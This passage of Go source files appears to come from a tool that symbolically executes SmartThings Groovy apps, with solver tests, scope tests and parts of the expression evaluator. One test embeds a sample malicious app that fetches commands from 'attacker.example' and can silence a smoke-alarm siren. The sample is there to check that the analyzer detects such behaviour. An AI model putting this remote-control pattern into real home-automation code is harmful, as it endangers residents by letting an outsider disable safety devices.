		t.Errorf("b.switch = %v, want on", m["b.switch"])
	}
}

func TestEnumVarVarInequalityUnsat(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("a.lock", []string{"locked", "unlocked"})
	p.AddEnumVar("b.lock", []string{"locked", "unlocked"})
	p.AddConstraint(cmp(rule.OpNe, sv("a.lock"), sv("b.lock")))
	p.AddConstraint(cmp(rule.OpEq, sv("a.lock"), rule.StrVal("locked")))
	p.AddConstraint(cmp(rule.OpEq, sv("b.lock"), rule.StrVal("locked")))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT")
	}
}

func TestEnumNoSharedValues(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("a", []string{"on", "off"})
	p.AddEnumVar("b", []string{"open", "closed"})
	p.AddConstraint(cmp(rule.OpEq, sv("a"), sv("b")))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT: no shared value names")
	}
}

func TestStringNotInEnum(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("d.switch", []string{"on", "off"})
	p.AddConstraint(cmp(rule.OpEq, sv("d.switch"), rule.StrVal("open")))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT: 'open' not a switch value")
	}
	p2 := NewProblem()
	p2.AddEnumVar("d.switch", []string{"on", "off"})
	p2.AddConstraint(cmp(rule.OpNe, sv("d.switch"), rule.StrVal("open")))
	if _, ok := solve(t, p2); !ok {
		t.Fatal("!= against foreign value should be trivially SAT")
	}
}

func TestAutoDeclare(t *testing.T) {
	p := NewProblem()
	p.AddConstraint(cmp(rule.OpGt, iv("threshold"), rule.IntVal(10)))
	p.AddConstraint(cmp(rule.OpEq, sv("mode"), rule.StrVal("Home")))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT with auto-declared vars")
	}
	if m["threshold"].Int <= 10 {
		t.Errorf("threshold = %v", m["threshold"])
	}
	if m["mode"].Enum != "Home" {
		t.Errorf("mode = %v", m["mode"])
	}
}

func TestBoolConstants(t *testing.T) {
	p := NewProblem()
	p.AddBoolVar("flag")
	p.AddConstraint(cmp(rule.OpEq, rule.Var{Name: "flag", Type: rule.TypeBool}, rule.BoolVal(true)))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT")
	}
	if m["flag"].Enum != "true" {
		t.Errorf("flag = %v", m["flag"])
	}
}

func TestConstConstFormulas(t *testing.T) {
	p := NewProblem()
	p.AddConstraint(cmp(rule.OpLt, rule.IntVal(1), rule.IntVal(2)))
	if _, ok := solve(t, p); !ok {
		t.Fatal("1 < 2 should be SAT")
	}
	p2 := NewProblem()
	p2.AddConstraint(cmp(rule.OpEq, rule.StrVal("on"), rule.StrVal("off")))
	if _, ok := solve(t, p2); ok {
		t.Fatal(`"on" == "off" should be UNSAT`)
	}
}

func TestLiteralConstraints(t *testing.T) {
	p := NewProblem()
	p.AddConstraint(rule.TrueC)
	if _, ok := solve(t, p); !ok {
		t.Fatal("true should be SAT")
	}
	p2 := NewProblem()
	p2.AddConstraint(rule.FalseC)
	if _, ok := solve(t, p2); ok {
		t.Fatal("false should be UNSAT")
	}
}

func TestLargeDomainDisequality(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("a", 0, 100000)
	p.AddIntVar("b", 0, 100000)
	p.AddConstraint(cmp(rule.OpNe, iv("a"), iv("b")))
	p.AddConstraint(cmp(rule.OpEq, iv("a"), iv("b")))
	if _, ok := solve(t, p); ok {
		t.Fatal("a==b && a!=b should be UNSAT even on large domains")
	}
}

func TestDeepDisjunctionTree(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("x", 0, 1000)
	// (x<10 || x>990) && (x>5) && (x<995) — SAT at e.g. 6..9 or 991..994.
	p.AddConstraint(rule.Or{Cs: []rule.Constraint{
		cmp(rule.OpLt, iv("x"), rule.IntVal(10)),
		cmp(rule.OpGt, iv("x"), rule.IntVal(990)),
	}})
	p.AddConstraint(cmp(rule.OpGt, iv("x"), rule.IntVal(5)))
	p.AddConstraint(cmp(rule.OpLt, iv("x"), rule.IntVal(995)))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT")
	}
	x := m["x"].Int
	if !((x > 5 && x < 10) || (x > 990 && x < 995)) {
		t.Errorf("x = %d outside both windows", x)
	}
}

// ---- property-based testing against a brute-force oracle ----

// bruteSat exhaustively checks satisfiability of a conjunction of atoms
// over small integer domains.
func bruteSat(domains map[string][2]int64, atoms []rule.Constraint) bool {
	names := make([]string, 0, len(domains))
	for n := range domains {
		names = append(names, n)
	}
	// deterministic order
	for i := 0; i < len(names); i++ {
		for j := i + 1; j < len(names); j++ {
			if names[j] < names[i] {
				names[i], names[j] = names[j], names[i]
			}
		}
	}
	assign := map[string]int64{}
	var rec func(i int) bool
	rec = func(i int) bool {
		if i == len(names) {
			for _, a := range atoms {
				if !evalAtom(a, assign) {
					return false
				}
			}
			return true
		}
		d := domains[names[i]]
		for v := d[0]; v <= d[1]; v++ {
			assign[names[i]] = v
			if rec(i + 1) {
				return true
			}
		}
		return false
	}
	return rec(0)
}

func evalAtom(c rule.Constraint, assign map[string]int64) bool {
	switch x := c.(type) {
	case rule.Cmp:
		l := evalTerm(x.L, assign)
		r := evalTerm(x.R, assign)
		return evalConst(x.Op, l, r)
	case rule.And:
		for _, sub := range x.Cs {
			if !evalAtom(sub, assign) {
				return false
			}
		}
		return true
	case rule.Or:
		for _, sub := range x.Cs {
			if evalAtom(sub, assign) {
				return true
			}
		}
		return false
	case rule.Not:
		return !evalAtom(x.C, assign)
	case rule.Lit:
		return bool(x)
	}
	return false
}

func evalTerm(t rule.Term, assign map[string]int64) int64 {
	switch x := t.(type) {
	case rule.IntVal:
		return int64(x)
	case rule.Var:
		return assign[x.Name]
	case rule.Sum:
		return assign[x.X.Name] + x.K
	}
	return 0
}

func randAtom(rng *rand.Rand, names []string) rule.Constraint {
	ops := []rule.CmpOp{rule.OpEq, rule.OpNe, rule.OpLt, rule.OpLe, rule.OpGt, rule.OpGe}
	op := ops[rng.Intn(len(ops))]
	l := iv(names[rng.Intn(len(names))])
	var r rule.Term
	switch rng.Intn(3) {
	case 0:
		r = rule.IntVal(rng.Int63n(8))
	case 1:
		r = iv(names[rng.Intn(len(names))])
	default:
		r = rule.Sum{X: iv(names[rng.Intn(len(names))]), K: rng.Int63n(5) - 2}
	}
	return rule.Cmp{Op: op, L: l, R: r}
}

func randFormula(rng *rand.Rand, names []string, depth int) rule.Constraint {
	if depth == 0 || rng.Intn(3) == 0 {
		return randAtom(rng, names)
	}
	n := 2 + rng.Intn(2)
	cs := make([]rule.Constraint, n)
	for i := range cs {
		cs[i] = randFormula(rng, names, depth-1)
	}
	if rng.Intn(2) == 0 {
		return rule.And{Cs: cs}
	}
	return rule.Or{Cs: cs}
}

func TestSolverAgreesWithBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	names := []string{"a", "b", "c"}
	for trial := 0; trial < 400; trial++ {
		domains := map[string][2]int64{}
		for _, n := range names {
			lo := rng.Int63n(4)
			hi := lo + rng.Int63n(5)
			domains[n] = [2]int64{lo, hi}
		}
		var formulas []rule.Constraint
		for i := 0; i < 1+rng.Intn(3); i++ {
			formulas = append(formulas, randFormula(rng, names, 2))
		}
		p := NewProblem()
		for _, n := range names {
			p.AddIntVar(n, domains[n][0], domains[n][1])
		}
		all := rule.Conj(formulas...)
		p.AddConstraint(all)
		got, ok, err := p.Solve()
		if err != nil {
			t.Fatalf("trial %d: %v (formula %v)", trial, err, all)
		}
		want := bruteSat(domains, []rule.Constraint{all})
		if ok != want {
			t.Fatalf("trial %d: solver=%v brute=%v\nformula: %v\ndomains: %v",
				trial, ok, want, all, domains)
		}
		if ok {
			// Witness must actually satisfy the formula.
			assign := map[string]int64{}
			for _, n := range names {
				assign[n] = got[n].Int
			}
			if !evalAtom(all, assign) {
				t.Fatalf("trial %d: witness %v does not satisfy %v", trial, got, all)
			}
		}
	}
}

func TestDomainOperations(t *testing.T) {
	d := NewDomain(0, 10)
	d = d.Remove(5)
	if d.Contains(5) || !d.Contains(4) || !d.Contains(6) {
		t.Errorf("Remove: %v", d)
	}
	if d.Size() != 10 {
		t.Errorf("Size = %d, want 10", d.Size())
	}
	d2 := d.ClampMin(3).ClampMax(7)
	if d2.Min() != 3 || d2.Max() != 7 || d2.Contains(5) {
		t.Errorf("clamped: %v", d2)
	}
	i := d2.Intersect(NewDomain(6, 20))
	if i.Min() != 6 || i.Max() != 7 {
		t.Errorf("Intersect: %v", i)
	}
	if !NewDomain(3, 3).Singleton() {
		t.Error("singleton detection")
	}
	if !NewDomain(5, 4).Empty() {
		t.Error("inverted bounds should be empty")
	}
	lo, hi := NewDomain(0, 9).Split()
	if lo.Max() != 4 || hi.Min() != 5 {
		t.Errorf("Split: %v %v", lo, hi)
	}
	if NewDomain(1, 2).String() == "" || (Domain{}).String() != "∅" {
		t.Error("String rendering")
	}
	if (Domain{}).Size() != 0 {
		t.Error("empty size")
	}
	if NewDomain(1, 3).Only(2).Min() != 2 {
		t.Error("Only")
	}
	if !NewDomain(1, 3).Only(9).Empty() {
		t.Error("Only outside domain should be empty")
	}
}
