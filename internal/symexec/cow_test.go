package symexec_test

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/symexec"
)

// These tests pin the copy-on-write fork semantics of the symbolic
// executor's scope chain: forked sibling paths share frames until one
// writes, and a write after the fork must never leak into the sibling.
// CI runs this package under -race, which also exercises the parser and
// executor pools from the concurrency test below.

const cowHeader = `
definition(name: "CowTest", namespace: "t", author: "t")
preferences {
    section {
        input "sw1", "capability.switch"
        input "light1", "capability.switchLevel"
    }
}
def updated() { subscribe(sw1, "switch", handler) }
`

func extractRules(t *testing.T, body string) []string {
	t.Helper()
	res, err := symexec.Extract(cowHeader+body, "")
	if err != nil {
		t.Fatal(err)
	}
	out := make([]string, 0, len(res.Rules.Rules))
	for _, r := range res.Rules.Rules {
		out = append(out, r.String())
	}
	return out
}

// TestCOWSiblingIsolation: a write in the then-branch must not be visible
// on the else path that shares the pre-fork scope chain.
func TestCOWSiblingIsolation(t *testing.T) {
	rules := extractRules(t, `
def handler(evt) {
    def level = 10
    if (sw1.currentSwitch == "on") {
        level = 90
        light1.setLevel(level)
    } else {
        light1.setLevel(level)
    }
}
`)
	if len(rules) != 2 {
		t.Fatalf("want 2 rules, got %v", rules)
	}
	if !strings.Contains(rules[0], "(setLevel)(90)") {
		t.Errorf("then-path rule lost its own write: %s", rules[0])
	}
	if !strings.Contains(rules[1], "(setLevel)(10)") {
		t.Errorf("then-path write leaked into the else sibling: %s", rules[1])
	}
}

// TestCOWWriteThroughSharedFrame: the write targets a frame ABOVE the
// fork point (the handler scope, written from inside a loop body scope
// pushed after the fork) — the thaw must copy the path to the written
// frame, not just the leaf.
func TestCOWWriteThroughSharedFrame(t *testing.T) {
	rules := extractRules(t, `
def handler(evt) {
    def level = 10
    if (sw1.currentSwitch == "on") {
        for (x in [1]) {
            level = 90
        }
        light1.setLevel(level)
    } else {
        light1.setLevel(level)
    }
}
`)
	if len(rules) < 2 {
		t.Fatalf("want >= 2 rules, got %v", rules)
	}
	found90, found10 := false, false
	for _, r := range rules {
		if strings.Contains(r, "(setLevel)(90)") {
			found90 = true
		}
		if strings.Contains(r, "(setLevel)(10)") {
			found10 = true
		}
	}
	if !found90 || !found10 {
		t.Fatalf("want both setLevel(90) and an isolated setLevel(10): %v", rules)
	}
}

// TestCOWNestedInlining: an inlined method gets a fresh scope — its
// locals shadow nothing and leak nothing back to the caller, across the
// forks the method body makes.
func TestCOWNestedInlining(t *testing.T) {
	rules := extractRules(t, `
def handler(evt) {
    def level = 10
    helper()
    light1.setLevel(level)
}
def helper() {
    def level = 99
    if (sw1.currentSwitch == "on") {
        light1.setLevel(level)
    }
}
`)
	if len(rules) != 3 {
		t.Fatalf("want 3 rules (helper sink + caller sink on both paths), got %v", rules)
	}
	if !strings.Contains(rules[0], "(setLevel)(99)") {
		t.Errorf("helper lost its local: %s", rules[0])
	}
	for _, r := range rules[1:] {
		if !strings.Contains(r, "(setLevel)(10)") {
			t.Errorf("helper local leaked into the caller: %s", r)
		}
	}
}

// TestCOWTernaryForking: ternary assignment forks the path; each side
// records its own binding.
func TestCOWTernaryForking(t *testing.T) {
	rules := extractRules(t, `
def handler(evt) {
    def lvl = (sw1.currentSwitch == "on") ? 90 : 10
    light1.setLevel(lvl)
}
`)
	if len(rules) != 2 {
		t.Fatalf("want 2 rules, got %v", rules)
	}
	if !strings.Contains(rules[0], "(setLevel)(90)") || !strings.Contains(rules[1], "(setLevel)(10)") {
		t.Fatalf("ternary fork bindings wrong: %v", rules)
	}
}

// TestConcurrentExtraction runs many extractions in parallel over the
// corpus. Under -race this exercises the shared parser/executor pools,
// the command-resolution memo and the intern tables; results must match
// the serial run exactly.
func TestConcurrentExtraction(t *testing.T) {
	apps := corpus.All()
	want := make([]string, len(apps))
	for i, a := range apps {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("extract %s: %v", a.Name, err)
		}
		want[i] = renderResult(res)
	}
	var wg sync.WaitGroup
	errs := make(chan error, 8*len(apps))
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i, a := range apps {
				res, err := symexec.Extract(a.Source, "")
				if err != nil {
					errs <- err
					return
				}
				if got := renderResult(res); got != want[i] {
					errs <- fmt.Errorf("app %s: concurrent extraction diverged", a.Name)
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
}

func renderResult(res *symexec.Result) string {
	var b strings.Builder
	for _, r := range res.Rules.Rules {
		b.WriteString(r.String())
		b.WriteByte('\n')
	}
	fmt.Fprintf(&b, "paths=%d warns=%v", res.Paths, res.Warnings)
	return b.String()
}
