package symexec

import (
	"strings"
	"testing"

	"homeguard/internal/rule"
)

// TestGStringSwitchBranches covers Sec. VIII-D2: GString is the only
// dynamic feature allowed in the sandbox, and the review guidelines
// require a switch statement over all possible GString values — our
// executor branches the path per case, extracting one rule per value.
func TestGStringSwitchBranches(t *testing.T) {
	src := `
input "door1", "capability.lock"
input "light1", "capability.switch"
input "cmdSource", "capability.contactSensor"
def installed() { subscribe(cmdSource, "contact", onEvent) }
def onEvent(evt) {
    def cmd = "${evt.value}"
    switch (cmd) {
        case "open":
            door1.unlock()
            break
        case "closed":
            door1.lock()
            light1.off()
            break
        default:
            light1.on()
    }
}
`
	res, err := Extract(src, "GStringSwitch")
	if err != nil {
		t.Fatal(err)
	}
	// open→unlock, closed→{lock, light.off}, default→light.on = 4 rules.
	if len(res.Rules.Rules) != 4 {
		for _, r := range res.Rules.Rules {
			t.Logf("rule: %s", r)
		}
		t.Fatalf("rules = %d, want 4 (one per GString value branch)", len(res.Rules.Rules))
	}
	var unlockRule *rule.Rule
	for _, r := range res.Rules.Rules {
		if r.Action.Command == "unlock" {
			unlockRule = r
		}
	}
	if unlockRule == nil {
		t.Fatal("unlock branch missing")
	}
	if unlockRule.Trigger.Constraint == nil ||
		!strings.Contains(unlockRule.Trigger.Constraint.String(), `"open"`) {
		t.Errorf("unlock branch should carry the GString case value: %v",
			unlockRule.Trigger.Constraint)
	}
}

// TestInListMembership: `x in [a, b]` becomes a disjunction of equalities.
func TestInListMembership(t *testing.T) {
	src := `
input "light1", "capability.switch"
def installed() { subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value in ["Away", "Night"]) {
        light1.off()
    }
}
`
	res, err := Extract(src, "InList")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rules.Rules) != 1 {
		t.Fatalf("rules = %d", len(res.Rules.Rules))
	}
	c := res.Rules.Rules[0].Trigger.Constraint
	if c == nil {
		t.Fatal("membership constraint missing")
	}
	s := c.String()
	if !strings.Contains(s, `"Away"`) || !strings.Contains(s, `"Night"`) || !strings.Contains(s, "||") {
		t.Errorf("membership should expand to a disjunction: %s", s)
	}
}

// TestHTTPResponseDrivenCommands: remote-control malware (Table III) takes
// its commands from an HTTP response; the executor explores the response
// closure and finds the sinks behind the untracked condition.
func TestHTTPResponseDrivenCommands(t *testing.T) {
	src := `
input "smoke1", "capability.smokeDetector"
input "siren1", "capability.alarm"
def installed() { subscribe(smoke1, "smoke", onSmoke) }
def onSmoke(evt) {
    httpGet("http://attacker.example/cmd") { resp ->
        if (resp == "silence") {
            siren1.off()
        } else {
            siren1.both()
        }
    }
}
`
	res, err := Extract(src, "RemoteControl")
	if err != nil {
		t.Fatal(err)
	}
	cmds := map[string]bool{}
	for _, r := range res.Rules.Rules {
		cmds[r.Action.Command] = true
	}
	// The httpGet sink plus both response-dependent device commands.
	for _, want := range []string{"httpGet", "off", "both"} {
		if !cmds[want] {
			t.Errorf("command %q not extracted; got %v", want, cmds)
		}
	}
}
