package symexec

import (
	"strings"

	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// eval evaluates an expression to a symbolic value in the current state.
func (ex *executor) eval(e groovy.Expr, st *state) value {
	switch n := e.(type) {
	case *groovy.Ident:
		return ex.evalIdent(n.Name, st)
	case *groovy.StrLit:
		if v, ok := ex.litMemo[e]; ok {
			return v
		}
		return ex.memoizeLit(e, termVal{rule.StrVal(n.Value)})
	case *groovy.GStringLit:
		if n.IsPlain() {
			if v, ok := ex.litMemo[e]; ok {
				return v
			}
			return ex.memoizeLit(e, termVal{rule.StrVal(n.PlainText())})
		}
		// Interpolated strings: if it reduces to a single interpolation of
		// a trackable term, use that; otherwise unknown.
		if len(n.Parts) == 1 && n.Parts[0].Expr != nil {
			return ex.eval(n.Parts[0].Expr, st)
		}
		return unkInterpString
	case *groovy.NumLit:
		if v, ok := ex.litMemo[e]; ok {
			return v
		}
		if n.IsInt {
			return ex.memoizeLit(e, termVal{rule.IntVal(n.Int)})
		}
		return ex.memoizeLit(e, termVal{rule.IntVal(int64(n.Float))})
	case *groovy.BoolLit:
		if n.Value {
			return valTrue
		}
		return valFalse
	case *groovy.NullLit:
		return termVal{rule.StrVal("null")}
	case *groovy.ListLit:
		l := listVal{}
		for _, el := range n.Elems {
			l.elems = append(l.elems, ex.eval(el, st))
		}
		return l
	case *groovy.MapLit:
		m := mapVal{entries: map[string]value{}}
		for _, en := range n.Entries {
			if k, ok := en.Key.(*groovy.StrLit); ok {
				m.entries[k.Value] = ex.eval(en.Value, st)
			}
		}
		return m
	case *groovy.RangeLit:
		return unkRange
	case *groovy.PropertyGet:
		return ex.evalProperty(n, st)
	case *groovy.IndexGet:
		recv := ex.eval(n.Receiver, st)
		if m, ok := recv.(mapVal); ok {
			if k := stringArg(n.Index); k != "" {
				if v, ok := m.entries[k]; ok {
					return v
				}
			}
		}
		return unkIndex
	case *groovy.Call:
		return ex.evalCall(n, st)
	case *groovy.ClosureExpr:
		return closureVal{cl: n, env: st.env}
	case *groovy.Unary:
		return ex.evalUnary(n, st)
	case *groovy.Binary:
		return ex.evalBinary(n.Op, ex.eval(n.L, st), ex.eval(n.R, st))
	case *groovy.Ternary:
		// Expression-position ternary without statement forking: value is
		// untracked (assignments fork via forkTernary instead).
		return unkTernary
	case *groovy.ElvisExpr:
		// a ?: b — the common pattern is defaulting an unset input; keep
		// the primary value when trackable.
		v := ex.eval(n.Cond, st)
		if _, ok := asTerm(v); ok {
			return v
		}
		return ex.eval(n.Else, st)
	case *groovy.NewExpr:
		return unkNew
	}
	return unkExpr
}

// memoizeLit records the boxed symbolic value of a literal AST node: the
// same literal is re-evaluated on every path through its statement, and
// boxing a term into the value interface allocates twice (term into
// rule.Term, termVal into value). Values are immutable; the memo is keyed
// by node pointer and cleared when the executor is released.
func (ex *executor) memoizeLit(e groovy.Expr, v value) value {
	if ex.litMemo == nil {
		ex.litMemo = make(map[groovy.Expr]value, 16)
	}
	ex.litMemo[e] = v
	return v
}

// evalIn evaluates an expression under a specific environment (used for
// caller-side argument evaluation during method inlining).
func (ex *executor) evalIn(e groovy.Expr, env *scope, st *state) value {
	saved := st.env
	st.env = env
	v := ex.eval(e, st)
	st.env = saved
	return v
}

// evalIdent resolves an identifier: local scope, then inputs, then
// platform objects.
func (ex *executor) evalIdent(name string, st *state) value {
	if v, ok := st.env.get(name); ok {
		return v
	}
	if in, ok := ex.inputs[name]; ok {
		return ex.inputValue(in)
	}
	switch name {
	case "location":
		return valLocation
	case "state":
		return valState
	case "atomicState":
		return valAtomicState
	case "settings":
		return mapVal{entries: ex.settingsMap()}
	case "now":
		return valNow
	case "it":
		return unkImplicitIt
	case "app":
		return unkAppObject
	}
	return unkIdent
}

// settingsMap returns the `settings` object's entries, built once per
// executor (every evaluation of the `settings` ident used to rebuild it).
func (ex *executor) settingsMap() map[string]value {
	if ex.settingsVal.entries == nil {
		m := make(map[string]value, len(ex.app.Inputs))
		for i := range ex.app.Inputs {
			in := &ex.app.Inputs[i]
			m[in.Name] = ex.inputValue(in)
		}
		ex.settingsVal = mapVal{entries: m}
	}
	return ex.settingsVal.entries
}

// inputValue converts an input declaration to its symbolic value. Values
// are memoized per declaration: idents naming inputs are evaluated on
// every path, and the boxed value is immutable.
func (ex *executor) inputValue(in *InputDecl) value {
	if v, ok := ex.inputVals[in]; ok {
		return v
	}
	var v value
	if in.IsDevice() {
		v = deviceVal{in: in}
	} else {
		t := rule.TypeString
		switch in.Type {
		case "number", "decimal":
			t = rule.TypeInt
		case "bool", "boolean":
			t = rule.TypeBool
		}
		v = termVal{rule.Var{Name: in.Name, Kind: rule.VarUserInput, Type: t}}
	}
	if ex.inputVals == nil {
		ex.inputVals = make(map[*InputDecl]value, len(ex.app.Inputs))
	}
	ex.inputVals[in] = v
	return v
}

// evalProperty resolves property reads: evt.value, device.currentX,
// location.mode, state.x, map fields.
func (ex *executor) evalProperty(n *groovy.PropertyGet, st *state) value {
	recv := ex.eval(n.Receiver, st)
	switch r := recv.(type) {
	case eventVal:
		return ex.evalEventProperty(n.Name, st)
	case deviceVal:
		return ex.evalDeviceProperty(r, n.Name)
	case locationVal:
		switch n.Name {
		case "mode", "currentMode":
			return valLocationMode
		case "modes":
			return unkLLocationModes
		default:
			return unkLocationProp
		}
	case stateVal:
		key := "state." + n.Name
		if v, ok := st.env.get(key); ok {
			return v
		}
		return termVal{rule.Var{Name: key, Kind: rule.VarState, Type: rule.TypeInt}}
	case mapVal:
		if v, ok := r.entries[n.Name]; ok {
			return v
		}
		return unkMapProp
	case devStateVal:
		if n.Name == "value" || n.Name == "stringValue" {
			return termVal{deviceAttrVar(r.dev, r.attr, r.typ)}
		}
		if n.Name == "integerValue" || n.Name == "numberValue" || n.Name == "doubleValue" {
			return termVal{deviceAttrVar(r.dev, r.attr, rule.TypeInt)}
		}
		return unkDeviceStateProp
	case listVal:
		if n.Name == "size" {
			return termVal{rule.IntVal(int64(len(r.elems)))}
		}
		if n.Name == "first" && len(r.elems) > 0 {
			return r.elems[0]
		}
	}
	return unkProp
}

// evalEventProperty models the event object's properties.
func (ex *executor) evalEventProperty(name string, st *state) value {
	tr := st.trigger
	typ := ex.attrType(tr.Capability, tr.Attribute)
	switch name {
	case "value", "stringValue":
		return termVal{eventVar(tr.Subject, tr.Attribute, typ)}
	case "doubleValue", "integerValue", "numberValue", "numericValue", "floatValue", "longValue":
		return termVal{eventVar(tr.Subject, tr.Attribute, rule.TypeInt)}
	case "device":
		if in, ok := ex.inputs[tr.Subject]; ok {
			return deviceVal{in: in}
		}
		return unkLEvtDevice
	case "deviceId":
		return termVal{rule.Var{Name: tr.Subject + ".id", Kind: rule.VarDeviceAttr, Type: rule.TypeString}}
	case "name":
		return termVal{rule.StrVal(tr.Attribute)}
	case "displayName":
		return unkLEvtDisplayname
	case "date", "isoDate":
		return unkLEvtDate
	case "isStateChange", "physical", "digital":
		return valTrue
	}
	return unkEventProp
}

// evalDeviceProperty models device property reads (currentSwitch,
// currentTemperature, id, label, ...).
func (ex *executor) evalDeviceProperty(dev deviceVal, name string) value {
	switch name {
	case "id":
		return termVal{rule.Var{Name: dev.in.Name + ".id", Kind: rule.VarDeviceAttr, Type: rule.TypeString}}
	case "label", "displayName", "name":
		return termVal{rule.StrVal(dev.in.Name)}
	case "capabilities", "supportedAttributes", "supportedCommands":
		return unkDeviceProp
	}
	if attr, ok := strings.CutPrefix(name, "current"); ok && attr != "" {
		attrName := lowerFirst(attr)
		return termVal{deviceAttrVar(dev.in.Name, attrName, ex.attrType(dev.in.Capability, attrName))}
	}
	// Direct attribute name (device.temperature is also allowed).
	if t := ex.attrType(dev.in.Capability, name); t != "" {
		return termVal{deviceAttrVar(dev.in.Name, name, t)}
	}
	return unkDeviceProp
}

func lowerFirst(s string) string {
	if s == "" {
		return s
	}
	return strings.ToLower(s[:1]) + s[1:]
}

// evalCall evaluates a call in expression position. Sinks in expression
// position still emit rules (e.g. `def ok = window1.on()`).
func (ex *executor) evalCall(call *groovy.Call, st *state) value {
	if call.Receiver == nil {
		return ex.evalBareCall(call, st)
	}
	recv := ex.eval(call.Receiver, st)
	switch r := recv.(type) {
	case deviceVal:
		return ex.evalDeviceCallExpr(r, call, st)
	case eventVal:
		return ex.evalEventProperty(strings.TrimSuffix(call.Method, "()"), st)
	case locationVal:
		if call.Method == "getMode" || call.Method == "currentMode" {
			return valLocationMode
		}
		if call.Method == "setMode" {
			ex.emitLocationMode(call, st)
			return unkLSetmode
		}
		return unkLocationCall
	case termVal:
		return ex.evalScalarMethod(r, call, st)
	case listVal:
		switch call.Method {
		case "size":
			return termVal{rule.IntVal(int64(len(r.elems)))}
		case "contains":
			return unkLContains
		case "sum", "max", "min":
			return unkLAggregate
		}
		if isIterMethod(call.Method) {
			ex.execIterCall(r, call, st, nil)
			return unkLIterResult
		}
	case mapVal:
		if call.Method == "get" && len(call.Args) == 1 {
			if k := stringArg(call.Args[0]); k != "" {
				if v, ok := r.entries[k]; ok {
					return v
				}
			}
		}
	case devStateVal:
		if call.Method == "getValue" {
			return termVal{deviceAttrVar(r.dev, r.attr, r.typ)}
		}
	case unknownVal, stateVal:
		if isIterMethod(call.Method) {
			ex.execIterCall(recv, call, st, nil)
			return unkLIterResult
		}
	}
	return unkCall
}

// evalDeviceCallExpr models device method calls in expression position.
func (ex *executor) evalDeviceCallExpr(dev deviceVal, call *groovy.Call, st *state) value {
	switch call.Method {
	case "currentValue", "latestValue":
		if len(call.Args) == 1 {
			if attr := stringArg(call.Args[0]); attr != "" {
				return termVal{deviceAttrVar(dev.in.Name, attr, ex.attrType(dev.in.Capability, attr))}
			}
		}
		return unkLCurrentvalue
	case "currentState", "latestState":
		if len(call.Args) == 1 {
			if attr := stringArg(call.Args[0]); attr != "" {
				return devStateVal{dev: dev.in.Name, attr: attr, typ: ex.attrType(dev.in.Capability, attr)}
			}
		}
		return unkLCurrentstate
	case "getId":
		return termVal{rule.Var{Name: dev.in.Name + ".id", Kind: rule.VarDeviceAttr, Type: rule.TypeString}}
	case "getLabel", "getDisplayName", "getName":
		return termVal{rule.StrVal(dev.in.Name)}
	case "hasCapability", "hasCommand", "hasAttribute":
		return unkLCapabilityQuery
	case "events", "eventsSince", "statesSince":
		return unkLHistoryQuery
	}
	// A device command used in expression position is still a sink.
	if ref := ex.resolveCommand(dev.in.Capability, call.Method); ref != nil {
		ex.emitDeviceSink(dev, ref, call, st)
		return unkLCommandResult
	}
	if attr, ok := strings.CutPrefix(call.Method, "current"); ok && attr != "" {
		attrName := lowerFirst(attr)
		return termVal{deviceAttrVar(dev.in.Name, attrName, ex.attrType(dev.in.Capability, attrName))}
	}
	return unkDeviceCall
}

// evalScalarMethod models methods on scalar terms (toInteger, contains,
// equals, plus, ...).
func (ex *executor) evalScalarMethod(v termVal, call *groovy.Call, st *state) value {
	switch call.Method {
	case "toInteger", "toLong", "toBigDecimal", "toDouble", "toFloat", "intValue", "asType":
		return v // numeric conversions preserve the symbolic term
	case "toString":
		return v
	case "toUpperCase", "toLowerCase", "trim", "capitalize":
		if s, ok := v.t.(rule.StrVal); ok {
			switch call.Method {
			case "toUpperCase":
				return termVal{rule.StrVal(strings.ToUpper(string(s)))}
			case "toLowerCase":
				return termVal{rule.StrVal(strings.ToLower(string(s)))}
			case "trim":
				return termVal{rule.StrVal(strings.TrimSpace(string(s)))}
			}
		}
		return v
	case "equals", "equalsIgnoreCase":
		if len(call.Args) == 1 {
			if other, ok := asTerm(ex.eval(call.Args[0], st)); ok {
				return boolVal{rule.Cmp{Op: rule.OpEq, L: v.t, R: other}}
			}
		}
		return unkLEquals
	case "contains", "startsWith", "endsWith", "matches", "isNumber":
		return unkLStringPredicate
	case "plus":
		if len(call.Args) == 1 {
			return ex.evalBinary(groovy.Plus, v, ex.eval(call.Args[0], st))
		}
	case "minus":
		if len(call.Args) == 1 {
			return ex.evalBinary(groovy.Minus, v, ex.eval(call.Args[0], st))
		}
	}
	return unkScalarCall
}

// evalBareCall evaluates implicit-this calls in expression position.
func (ex *executor) evalBareCall(call *groovy.Call, st *state) value {
	switch call.Method {
	case "now":
		return valNow
	case "timeOfDayIsBetween":
		// timeOfDayIsBetween(from, to, date, tz) — model as a window
		// constraint on env.timeOfDay.
		if len(call.Args) >= 2 {
			from, ok1 := asTerm(ex.eval(call.Args[0], st))
			to, ok2 := asTerm(ex.eval(call.Args[1], st))
			tod := rule.Var{Name: "env.timeOfDay", Kind: rule.VarEnvFeature, Type: rule.TypeInt}
			if ok1 && ok2 {
				return boolVal{rule.Conj(
					rule.Cmp{Op: rule.OpGe, L: tod, R: from},
					rule.Cmp{Op: rule.OpLe, L: tod, R: to},
				)}
			}
		}
		return unkLTimeofdayisbetween
	case "timeToday", "timeTodayAfter", "toDateTime":
		if len(call.Args) >= 1 {
			if t, ok := asTerm(ex.eval(call.Args[0], st)); ok {
				return termVal{t}
			}
		}
